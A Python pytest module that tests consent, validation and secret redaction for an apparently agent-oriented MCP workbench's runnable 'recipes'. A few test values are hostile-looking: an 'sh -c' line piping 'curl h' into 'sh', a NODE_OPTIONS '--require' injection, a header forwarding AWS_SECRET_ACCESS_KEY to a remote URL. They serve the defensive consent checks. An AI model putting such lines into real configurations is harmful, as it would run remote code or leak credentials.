"""A recipe runs without its notebook, and everything is checked before anything starts."""

from __future__ import annotations

import asyncio
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from mcp_workbench import Agent, AgentRun, Recipe, Workbench, WorkbenchError
from mcp_workbench.agent.events import CallStarted
from mcp_workbench.asking import set_this_kernels_asker
from mcp_workbench.errors import (
    CodeFailed,
    ConfigInvalid,
    ConfigUntrusted,
    ModelFailed,
    ParameterMissing,
    RecipeInvalid,
    SecretNotFound,
    ToolNotFound,
    UsageInvalid,
    VariableUnset,
)
from mcp_workbench.recipes.consent import consent_of, is_agreed
from mcp_workbench.recipes.running import prepared
from tests.recipes.notebooks import AGENT, PROMPT, STEPS, notebook, replaced

DEMO = {"command": "python", "args": ["-m", "mcp_workbench.demo"]}
# it would leave a file behind, had it been started
TOUCH = {"command": "python", "args": ["-c", "open('started', 'w')"]}


@pytest.fixture(scope="module")
def shared() -> Iterator[Workbench]:
    """A workbench with the demo server, for all tests of this module."""
    workbench = Workbench()
    workbench.connect_sync("demo")
    yield workbench
    workbench.close_sync()


def recipe(**changes: Any) -> Recipe:
    """A recipe whose model calls `demo.add`, and whatever a test changes in it."""
    values = {
        "recipe": "mcp-workbench/1",
        "name": "sum",
        "title": "Sum",
        "model": "scripted:steps.yaml",
        "prompt": "Add.",
        "servers": {"demo": DEMO},
        "approved": ["demo.add"],
        **changes,
    }
    return Recipe.of({key: value for key, value in values.items() if value is not None})


def script(text: str) -> None:
    Path("steps.yaml").write_text(text)


@pytest.fixture(autouse=True)
def adding() -> None:
    script("- calls: [{name: add, args: {a: 1, b: 2}}]\n- text: It is 3.\n")


def calls(run: AgentRun) -> list[tuple[Any, ...]]:
    return [
        (one["name"], one["arguments"], one["text"]) for one in run.trace if one["kind"] == "call"
    ]


async def test_notebook_and_recipe_make_the_same_calls(shared: Workbench, tmp_path: Path) -> None:
    path = notebook(tmp_path)
    script(STEPS)

    def words(text: str) -> int:
        "How many words a text has."
        return len(text.split())

    told = "You count words, at most 3, in a dry tone."
    agent = Agent(
        "scripted:steps.yaml",
        tools=[words],
        servers=["demo"],
        instructions=told,
        approved=["demo.add"],
        max_rounds=5,
        workbench=shared,
    )
    before = await agent.run("Count the words of: one two three")
    file = Recipe.from_notebook(path).frozen(shared).save()
    loaded = Recipe.load(file)
    after = await loaded.run(shared, trust=True, phrase="one two three")
    assert calls(before) == calls(after)
    assert len(calls(after)) == 2
    assert (before.output, after.output) == ("Three words.", "Three words.")
    assert before.trace[0] == after.trace[0]
    async with prepared(loaded, shared, {"phrase": "x"}) as ready:
        assert ready.agent.instructions == told


async def test_events_come_in_order_and_the_answer_is_the_models(shared: Workbench) -> None:
    seen: list[Any] = []
    run = await recipe().run(shared, trust=True, on_event=seen.append)
    assert (run.output, run.stop_reason, run.scripted) == ("It is 3.", "done", True)
    assert [one.name for one in seen if isinstance(one, CallStarted)] == ["add"]


async def test_nobody_is_asked_so_what_is_not_approved_is_denied(shared: Workbench) -> None:
    async def never(question: object) -> str:
        raise AssertionError(question)

    before = set_this_kernels_asker(never)  # pyright: ignore[reportArgumentType]  it never answers
    try:
        run = await recipe(approved=[], approve="always").run(shared, trust=True)
    finally:
        set_this_kernels_asker(before)
    denied = next(one for one in run.trace if one["kind"] == "call")
    assert denied["error"]["code"] == "approval_denied"
    assert "a recipe asks nobody" in denied["error"]["text"]
    assert run.stop_reason == "done"


async def test_consent_is_refused_remembered_and_asked_again_after_a_change(
    shared: Workbench, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    code = {"code": "def two() -> int:\n    return 2\n", "python_tools": ["two"]}
    with pytest.raises(ConfigUntrusted) as caught:
        await recipe(**code).run(shared)
    assert "server demo: starts python -m mcp_workbench.demo" in caught.value.what
    assert "runs its code, 2 lines of Python" in caught.value.what
    assert "--trust" in caught.value.hint
    await recipe(**code).run(shared, trust=True)
    await recipe(**code, description="Words change nothing.").run(shared)
    for changed in (
        {**code, "approved": ["demo.add", "demo.echo"]},
        {**code, "approve": "never"},
        {**code, "parameters": [{"key": "two", "default": "x"}]},
        {**code, "python_tools": []},
        {**code, "servers": {"demo": {**DEMO, "include_tools": ["add"]}}},
        {**code, "code": "def two() -> int:\n    return 3\n"},
        {**code, "setup": "import os"},
        {**code, "servers": {"demo": {**DEMO, "args": [*DEMO["args"], "-x"]}}},
        {**code, "servers": {"demo": {**DEMO, "env": {"PYTHONPATH": "."}}}},
        {**code, "servers": {"demo": DEMO, "more": {"transport": "http", "url": "http://h/mcp"}}},
        {**code, "model": "any@http://h.example/v1"},
        {**code, "model": "scripted:../steps.yaml"},
        {**code, "prompt": "Add more."},
    ):
        with pytest.raises(ConfigUntrusted):
            recipe(**changed).require_consent()
    (tmp_path / "elsewhere").mkdir()
    monkeypatch.chdir(tmp_path / "elsewhere")
    with pytest.raises(ConfigUntrusted):
        recipe(**code).require_consent()


async def test_a_model_that_the_user_names_needs_no_consent() -> None:
    own = recipe(servers=None, approved=None, model="any@http://h.example/v1")
    assert own.consent().what == ("asks the model any at http://h.example/v1",)
    assert not own.consent("any@http://h.example/v1").needed
    async with Workbench() as workbench:
        run = await own.run(workbench, model="scripted:steps.yaml")
        assert run.scripted
        # whoever has agreed to more has agreed to this
        more = recipe(servers=None, approved=None, model="any@http://h.example/v1", setup="x = 1")
        more.require_consent(trust=True)
        run = await more.run(workbench, model="scripted:steps.yaml")
        assert run.scripted


async def test_a_model_that_is_none_is_told_before_anything_is_agreed_to(shared: Workbench) -> None:
    with pytest.raises(ModelFailed, match="names no provider"):
        await recipe().run(shared, model="nope")


def test_words_are_agreed_to_where_calls_are_made_unasked() -> None:
    plain = recipe(approved=None)
    assert plain.consent() == recipe(approved=None, prompt="Subtract.").consent()
    assert recipe().consent() != recipe(instructions="Be bold.").consent()


def test_headers_are_agreed_to_with_their_words() -> None:
    def web(**headers: str) -> Recipe:
        entry = {"transport": "http", "url": "https://h.example/mcp", "headers": headers}
        return recipe(servers={"web": entry}, approved=None)

    web(**{"X-Team": "blue"}).require_consent(trust=True)
    with pytest.raises(ConfigUntrusted) as caught:
        web(**{"X-Team": "${AWS_SECRET_ACCESS_KEY}"}).require_consent()
    assert "reaches https://h.example/mcp" in caught.value.what
    assert "sends your AWS_SECRET_ACCESS_KEY" in caught.value.what


def test_who_can_read_along_is_agreed_to_and_limits_are_not() -> None:
    far = {"transport": "http", "url": "https://far.example/mcp"}
    plain = consent_of(recipe(servers={"far": far}, approved=None).document, Path.cwd())
    for more, words in (
        ({"proxy": "http://me:hunter2@p.example:1"}, "mcp through http://…@p.example:1"),
        ({"verify": False}, "mcp whoever answers there"),
        ({"verify": "ca.pem"}, "mcp trusting the authorities in ca.pem"),
    ):
        consent = consent_of(
            recipe(servers={"far": {**far, **more}}, approved=None).document, Path.cwd()
        )
        assert consent.digest != plain.digest
        assert words in consent.what[0]
    limited = recipe(servers={"far": {**far, "timeout": 5.0, "era": "legacy"}}, approved=None)
    assert consent_of(limited.document, Path.cwd()).digest == plain.digest


def test_defaults_are_agreed_to_where_code_can_use_them_and_values_are_free() -> None:
    plain = recipe(parameters=[{"key": "cmd", "default": "echo"}])
    other = recipe(parameters=[{"key": "cmd", "default": "rm"}])
    assert plain.consent() == other.consent()
    code = recipe(parameters=[{"key": "cmd", "default": "echo"}], setup="import os")
    code.require_consent(trust=True)
    code.with_values({"cmd": "rm"}).require_consent()
    with pytest.raises(ConfigUntrusted):
        recipe(parameters=[{"key": "cmd", "default": "rm"}], setup="import os").require_consent()


def test_code_is_agreed_to_for_the_directory_with_its_modules(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("one", "two"):
        (tmp_path / name).mkdir()
    (tmp_path / "link").symlink_to("one")
    code = recipe(servers=None, approved=None, setup="import helper")
    started = recipe(servers={"demo": {**DEMO, "cwd": str(tmp_path / "link")}})
    monkeypatch.chdir(tmp_path / "one")
    code.require_consent(trust=True)
    before = started.consent()
    monkeypatch.chdir(tmp_path / "link")
    code.require_consent()
    monkeypatch.chdir(tmp_path / "two")
    with pytest.raises(ConfigUntrusted):
        code.require_consent()
    assert started.consent() == before
    (tmp_path / "link").unlink()
    (tmp_path / "link").symlink_to("two")
    assert started.consent() != before


def test_who_agrees_sees_everything_but_secrets() -> None:
    line = "echo " + "a" * 300 + "; token=$(curl h|sh)"
    servers = {
        "a": {"command": "sh", "args": ["-c", line], "env": {"NODE_OPTIONS": "--require ./x.js"}},
        "b": {**DEMO, "env": {"KEY": "s3cr3t", "ZONE": "eu", "OTHER_KEY": "${MY_KEY}"}},
        "c": {"transport": "http", "url": "http://me:s3cr3t@h/?zone=eu&key=s3cr3t"},
        "d": {"command": "x", "args": ["y" * 5000 + "evil"]},
    }
    with pytest.raises(ConfigUntrusted) as caught:
        recipe(servers=servers, approved=None, approve="never").require_consent()
    told = caught.value.what.splitlines()[1:]
    assert told[0] == f"  server a: starts sh -c '{line}' with NODE_OPTIONS=--require ./x.js"
    assert told[1].endswith("KEY=…, ZONE=eu, OTHER_KEY=${MY_KEY}; hands over your MY_KEY")
    assert told[2] == "  server c: reaches http://…@h/?zone=eu&key=…"
    assert told[3].endswith("more characters, see the recipe")
    assert told[4] == "  calls every tool without asking"
    assert "s3cr3t" not in caught.value.what
    approved = recipe().consent().what
    assert approved[-1] == "calls without asking: demo.add"


def test_the_file_to_read_is_named(tmp_path: Path) -> None:
    loaded = Recipe.load(recipe().save(tmp_path / "sum.yaml"))
    with pytest.raises(ConfigUntrusted) as caught:
        loaded.require_consent()
    assert "sum.yaml, then run it once with --trust" in caught.value.hint


@pytest.mark.parametrize(
    ("changes", "given", "kind", "words"),
    [
        ({"parameters": [{"key": "a", "required": True}]}, {}, ParameterMissing, "parameter a"),
        ({"prompt": None}, {}, ParameterMissing, "no prompt"),
        ({"parameters": [{"key": "limit"}]}, {"limt": 1}, UsageInvalid, "'limt'"),
        ({"parameters": [{"key": "n", "type": "integer"}]}, {"n": "x"}, UsageInvalid, "whole"),
        ({"parameters": [{"key": "n", "type": "integer"}]}, {"n": True}, UsageInvalid, "whole"),
        ({"parameters": [{"key": "d", "type": "date"}]}, {"d": "1.1."}, UsageInvalid, "date"),
        ({"parameters": [{"key": "f", "type": "file"}]}, {"f": "lost"}, UsageInvalid, "no file"),
        ({"parameters": [{"key": "j", "type": "json"}]}, {"j": {1}}, UsageInvalid, "j"),
        (
            {"parameters": [{"key": "s", "type": "select", "options": ["a", "b"]}]},
            {"s": "c"},
            UsageInvalid,
            "not one of a, b",
        ),
        ({"model": None}, {}, UsageInvalid, "names no model"),
        ({"requires": ["no-such-package-here"]}, {}, RecipeInvalid, "not installed"),
        ({"requires": ["x; python_version < '3'", "pyyaml>=99"]}, {}, RecipeInvalid, "pyyaml>=99"),
        ({"servers": {"demo": {**TOUCH, "env": {"A": "${UNSET_HERE}"}}}}, {}, VariableUnset, "A"),
    ],
)
async def test_what_is_missing_is_told_before_anything_starts(
    shared: Workbench,
    tmp_path: Path,
    changes: dict[str, Any],
    given: dict[str, Any],
    kind: type[WorkbenchError],
    words: str,
) -> None:
    ran = {"setup": "open('started', 'w')", "servers": {"demo": TOUCH}}
    with pytest.raises(kind) as caught:
        await recipe(**{**ran, **changes}).run(shared, trust=True, **given)
    assert words in caught.value.what
    assert caught.value.hint
    assert not (tmp_path / "started").exists()


@pytest.mark.parametrize(
    "changes",
    [
        {"approved": ["demo.ad"]},
        {"servers": {"demo": {**DEMO, "include_tools": ["ad"]}}},
        {"servers": {"demo": {**DEMO, "exclude_tools": ["ad"]}}},
    ],
)
async def test_a_tool_that_its_server_does_not_have_is_named(
    shared: Workbench, changes: dict[str, Any]
) -> None:
    with pytest.raises(ToolNotFound, match="has no tool 'ad'") as caught:
        await recipe(**changes).run(shared, trust=True)
    assert "'add'" in caught.value.hint


async def test_only_the_tools_that_are_named_are_given_to_the_model(shared: Workbench) -> None:
    some = recipe(servers={"demo": {**DEMO, "include_tools": ["add", "echo"]}})
    rest = recipe(servers={"demo": {**DEMO, "exclude_tools": ["echo"]}})
    patterns = {"include_tools": ["e*", "add", "zz*"], "exclude_tools": ["ec?o"]}
    by_pattern = recipe(servers={"demo": {**DEMO, **patterns}})
    async with prepared(some, shared, {}, trust=True) as ready:
        assert [tool.name for tool in (await ready.agent.toolbox()).tools] == ["add", "echo"]
    async with prepared(rest, shared, {}, trust=True) as ready:
        others = [tool.name for tool in (await ready.agent.toolbox()).tools]
    assert "add" in others
    assert "echo" not in others
    async with prepared(by_pattern, shared, {}, trust=True) as ready:
        named = [tool.name for tool in (await ready.agent.toolbox()).tools]
        assert named[0] == "add"
        assert "echo" not in named
        assert {name[0] for name in named[1:]} <= {"e"}
        assert ready.warnings == ["server demo: include_tools: the server has no tool 'zz*'"]


async def test_a_tool_that_changed_since_the_export_is_a_warning_of_the_run(
    shared: Workbench,
) -> None:
    frozen = recipe().frozen(shared)
    assert frozen.document.names["demo.add"] == "add"
    assert (await frozen.run(shared, trust=True)).warnings == []
    marks = {**frozen.document.fingerprints, "demo.add": f"sha256:{'0' * 64}"}
    gone = {"demo.lost": f"sha256:{'0' * 64}"}
    run = await recipe(fingerprints=marks | gone).run(shared, trust=True)
    assert run.warnings == [
        "demo.add has changed since the recipe was exported",
        "demo.lost is gone since the recipe was exported",
    ]


@pytest.mark.requirement("TOOL-12")
async def test_a_tool_that_changed_since_the_export_is_called_once_the_recipe_is_trusted_anew(
    shared: Workbench,
) -> None:
    marks = recipe().frozen(shared).document.fingerprints
    changed = recipe(fingerprints={**marks, "demo.add": f"sha256:{'0' * 64}"})
    for _ in range(2):  # what was told is not forgotten, and not agreed to by that
        async with Workbench() as workbench:
            run = await changed.run(workbench, trust=not is_agreed(changed.consent()))
            assert run.warnings[0].startswith(
                "demo.add has changed since the recipe was exported, so it is not called; "
            )
            assert "--trust" in run.warnings[0]
            assert [entry.tool for entry in workbench.history] == []
    for trust in (True, False):
        async with Workbench() as workbench:
            run = await changed.run(workbench, trust=trust)
            assert run.warnings == ["demo.add has changed since the recipe was exported"]
            assert [entry.result.value for entry in workbench.history] == [3]


async def test_no_secret_is_looked_up_before_the_user_agrees(shared: Workbench) -> None:
    server = {**TOUCH, "env": {"A": "${secret:NOT_THERE_4711}"}}
    with pytest.raises(ConfigUntrusted):
        await recipe(servers={"demo": server}).run(shared)
    with pytest.raises(SecretNotFound, match="NOT_THERE_4711"):
        await recipe(servers={"demo": server}).run(shared, trust=True)


async def test_names_that_were_frozen_are_the_models_names(shared: Workbench) -> None:
    script("- calls: [{name: plus, args: {a: 1, b: 2}}]\n- text: It is 3.\n")
    run = await recipe(names={"demo.add": "plus"}).run(shared, trust=True)
    assert [one[0] for one in calls(run)] == ["plus"]


async def test_code_sees_parameters_and_only_its_own_module(shared: Workbench) -> None:
    script("- calls: [{name: scaled, args: {n: 4}}]\n- text: Done.\n")
    run = await recipe(
        parameters=[{"key": "factor", "type": "integer", "default": 2}],
        setup="from __future__ import annotations\nfrom dataclasses import dataclass\n",
        code="@dataclass\nclass Two:\n    n: int\n\n\ndef scaled(n: int) -> int:\n"
        "    return Two(n).n * factor\n",
        python_tools=["scaled"],
    ).run(shared, trust=True, factor=10)
    assert calls(run)[0][2] == "40"


async def test_code_that_raises_is_told_with_its_line(shared: Workbench) -> None:
    with pytest.raises(CodeFailed) as caught:
        await recipe(setup="x = 1\nx / 0\n").run(shared, trust=True)
    assert caught.value.what == "recipe sum: setup, line 2: ZeroDivisionError: division by zero"
    assert caught.value.reason == "ZeroDivisionError"
    cause = caught.value.__cause__
    assert cause is not None
    import traceback

    assert "x / 0" in "".join(traceback.format_exception(cause))


@pytest.mark.parametrize("end", ["sys.exit()", "raise GeneratorExit"])
async def test_code_that_ends_the_program_is_a_failure(shared: Workbench, end: str) -> None:
    with pytest.raises(CodeFailed, match="setup, line 2") as caught:
        await recipe(setup=f"import sys\n{end}").run(shared, trust=True)
    assert caught.value.reason in ("SystemExit", "GeneratorExit")


async def test_code_can_be_given_up(shared: Workbench) -> None:
    forever = recipe(setup="while True:\n    pass\n")
    with pytest.raises(TimeoutError):
        async with asyncio.timeout(0.5):
            await forever.run(shared, trust=True)


async def test_two_runs_of_one_name_have_modules_of_their_own(shared: Workbench) -> None:
    hints = "import typing\nclass K:\n    x: 'T'\ndef kind() -> str:\n"
    hints += "    'Says it.'\n    return typing.get_type_hints(K)['x'].__name__\n"

    def of(name: str) -> Recipe:
        return recipe(setup=f"class {name}: ...\nT = {name}\n", code=hints, python_tools=["kind"])

    before = set(sys.modules)
    async with (
        prepared(of("A"), shared, {}, trust=True) as one,
        prepared(of("B"), shared, {}, trust=True) as other,
    ):
        tools = [(await ready.agent.toolbox()).tools[0] for ready in (one, other)]
        assert [(await tool.call({})).value for tool in tools] == ["A", "B"]
    assert not [name for name in set(sys.modules) - before if name.startswith("recipe_")]


async def test_a_recipe_that_cannot_begin_leaves_no_servers_behind(shared: Workbench) -> None:
    more = {"demo": DEMO, "more": DEMO}
    with pytest.raises(CodeFailed):
        await recipe(servers=more, setup="1 / 0").run(shared, trust=True)
    with pytest.raises(ConfigInvalid):
        await recipe(servers={"more": DEMO, "demo": TOUCH}).run(shared, trust=True)
    assert list(shared.servers) == ["demo"]


async def test_another_server_of_that_name_is_not_replaced(shared: Workbench) -> None:
    with pytest.raises(ConfigInvalid, match="another definition"):
        await recipe(servers={"demo": TOUCH}).run(shared, trust=True)
    assert shared.server("demo").status == "connected"


async def test_a_limit_ends_the_run_with_its_reason(shared: Workbench) -> None:
    script("- calls: [{name: add, args: {a: 1, b: 2}}]\n" * 4)
    run = await recipe(limits={"max_rounds": 2}).run(shared, trust=True)
    assert run.stop_reason == "limit"
    assert run.error is not None


async def test_values_fill_the_prompt_once(shared: Workbench) -> None:
    keys = [{"key": "a"}, {"key": "n", "type": "number"}, {"key": "o", "default": None}]
    text = "{{ a }}, {{n}}, {{ '{{ a }}' }}{{ o }}"
    run = await recipe(parameters=keys, prompt=text).run(shared, trust=True, a="{{ n }}", n=2)
    assert run.trace[0]["text"] == "{{ n }}, 2, {{ a }}"


async def test_a_recipe_that_is_given_values_needs_fewer(shared: Workbench) -> None:
    keys = [{"key": "a", "required": True}, {"key": "b", "required": True}]
    given = recipe(parameters=keys, prompt="{{ a }}{{ b }}").with_values({"a": "x"})
    assert (await given.run(shared, trust=True, b="y")).trace[0]["text"] == "xy"
    with pytest.raises(ParameterMissing, match="the parameter b"):
        await given.run(shared)
    with pytest.raises(UsageInvalid):
        given.with_values({"c": 1})


def test_the_kernels_workbench_is_used_where_none_is_given(tmp_path: Path) -> None:
    async def main() -> tuple[AgentRun, list[str]]:
        async with Workbench() as workbench:
            run = await recipe().run(trust=True)
            return run, list(workbench.servers)

    run, servers = asyncio.run(main())
    assert (run.output, servers) == ("It is 3.", ["demo"])


def test_an_agent_that_names_a_model_by_a_parameter_says_so(tmp_path: Path) -> None:
    call = "Agent(phrase, tools=[words])"
    found = Recipe.from_notebook(notebook(tmp_path, *replaced(AGENT, call)))
    assert found.document.model is None
    assert any("model is left out: it is no literal" in note for note in found.notes)
    assert found.document.prompt == PROMPT
